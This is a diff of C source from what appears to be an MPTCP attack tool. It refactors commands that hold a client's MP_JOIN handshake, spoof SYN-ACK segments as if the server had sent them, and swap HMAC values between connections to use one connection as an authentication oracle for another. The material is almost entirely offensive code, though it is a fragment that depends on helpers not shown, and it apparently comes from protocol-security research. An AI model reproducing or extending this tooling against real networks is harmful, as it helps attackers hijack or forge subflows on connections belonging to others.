@@ -7,29 +7,13 @@
 
 #include "attacker.h"
 
-/* The next MP_JOIN of this length that the client sends, which is not passed on */
-static uint8_t *held_join(uint8_t len, int64_t until, struct frame *frame,
-			  struct segment *segment)
-{
-	uint8_t *join;
-
-	while (pump(until, false, frame)) {
-		join = parse_segment(frame, segment) ?
-			       find_mptcp(segment, MP_JOIN) :
-			       NULL;
-		if (join && join[1] == len)
-			return join;
-	}
-	return NULL;
-}
-
 /* From now on they are held: the first SYN. It comes within 20 times the patience */
 uint8_t *hold_syn(struct frame *frame, struct segment *syn)
 {
 	uint8_t *join;
 
 	hold_joins = true;
-	join = held_join(JOIN_SYN_LEN, now_ms() + 20 * patience_ms, frame, syn);
+	join = next_join(JOIN_SYN_LEN, now_ms() + 20 * patience_ms, frame, syn);
 	if (!join)
 		printf(" no-join");
 	return join;
@@ -59,28 +43,6 @@ static void swap_ack(const uint8_t *join, const struct connection *y,
 		hmac[i] ^= hmac_y[i] ^ join[4 + i];
 }
 
-/* To the client, as if the server of its join had sent it */
-void send_synack(int path, const struct segment *syn, uint64_t hmac,
-		 uint32_t nonce)
-{
-	struct plan plan = {
-		.flags = TH_SYN | TH_ACK,
-		.from = syn->to,
-		.to = syn->from,
-		.seq = random32(),
-		.ack = syn->seq + 1,
-		.from_mac = links[path][SERVER].peer_mac,
-		.to_mac = links[path][CLIENT].peer_mac,
-		.options = { MPTCP_KIND, JOIN_SYNACK_LEN, MP_JOIN << 4 },
-		.options_len = JOIN_SYNACK_LEN,
-	};
-	struct frame frame;
-
-	put32(put64(plan.options + 4, hmac), nonce);
-	make_segment(&frame, &plan);
-	send_frame(&links[path][CLIENT], &frame);
-}
-
 /*
  * A join of the client to connection learn=Y is held, and what the client
  * answers is used for one to connection conn=X in its place, with the same
@@ -94,7 +56,6 @@ bool cmd_oracle(void)
 	struct frame frame, syn_frame;
 	struct segment segment, syn;
 	struct attempt attempt;
-	enum answer answer;
 	uint64_t mask;
 	uint8_t *join;
 
@@ -102,25 +63,21 @@ bool cmd_oracle(void)
 	if (!join)
 		return true;
 	/* Connection Y may be younger than the command */
-	x = arg_connection("conn");
-	y = arg_connection("learn");
-	if (!x || !y)
+	if (!arg_connections(&x, &y))
 		return false;
 
 	start_attempt(&attempt, x, y, 0);
 	held = attempt.from = syn.from;
 	attempt.nonces[CLIENT] = get32(join + 8);
 	attempt.token = swap_token(join, y, x);
-	send_syn(&attempt);
-	answer = take_synack(&attempt);
-	printf(" syn=%s", answers[answer]);
-	if (answer != ANSWERED)
+	if (!syn_answered(&attempt))
 		return true;
 
 	mask = attempt.synack ^ synack_hmac(x, &attempt);
-	send_synack(y->path == OTHER_HOST ? y->path : attempt.path, &syn,
-		    synack_hmac(y, &attempt) ^ mask, attempt.nonces[SERVER]);
-	join = held_join(JOIN_ACK_LEN, now_ms() + patience_ms, &frame,
+	send_synack(y->path == OTHER_HOST ? y->path : attempt.path, CLIENT,
+		    &syn, synack_hmac(y, &attempt) ^ mask,
+		    attempt.nonces[SERVER]);
+	join = next_join(JOIN_ACK_LEN, now_ms() + patience_ms, &frame,
 			 &segment);
 	printf(" client=%s", answers[join ? ANSWERED : SILENT]);
 	if (!join)
@@ -168,16 +125,13 @@ bool cmd_slot(void)
 	struct frame frame, syn_frame;
 	struct segment segment, syn;
 	struct attempt attempt;
-	enum answer answer;
 	uint8_t *join;
 
 	join = hold_syn(&syn_frame, &syn);
 	if (!join)
 		return true;
 	/* Connection Y may be younger than the command */
-	x = arg_connection("conn");
-	y = arg_connection("learn");
-	if (!x || !y)
+	if (!arg_connections(&x, &y))
 		return false;
 
 	start_attempt(&attempt, x, y, 0);
@@ -193,17 +147,14 @@ bool cmd_slot(void)
 		printf(" no-answer");
 		return true;
 	}
-	join = held_join(JOIN_ACK_LEN, now_ms() + 4 * patience_ms, &frame,
+	join = next_join(JOIN_ACK_LEN, now_ms() + 4 * patience_ms, &frame,
 			 &segment);
 	if (!join) {
 		printf(" no-ack");
 		return true;
 	}
 
-	send_syn(&attempt);
-	answer = take_synack(&attempt);
-	printf(" syn=%s", answers[answer]);
-	if (answer != ANSWERED)
+	if (!syn_answered(&attempt))
 		return true;
 	swap_ack(join, y, nonces, x, attempt.nonces, hmac);
 	attempt.from = syn.from;
